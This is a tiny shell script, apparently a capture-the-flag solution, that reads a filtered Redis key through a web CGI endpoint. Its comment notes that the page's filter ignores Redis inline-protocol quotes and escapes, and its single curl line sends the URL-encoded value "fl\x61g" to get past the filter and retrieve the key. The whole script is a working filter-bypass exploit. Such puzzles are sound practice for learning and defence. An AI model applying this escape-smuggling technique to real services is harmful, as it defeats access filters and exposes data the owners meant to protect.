#!/bin/sh
# solve.sh <url>: Redis' inline protocol knows quotes and escapes, the page's filter does not: "fl\x61g".
curl -fsS "$1/cgi-bin/get?key=%22fl%5Cx61g%22"
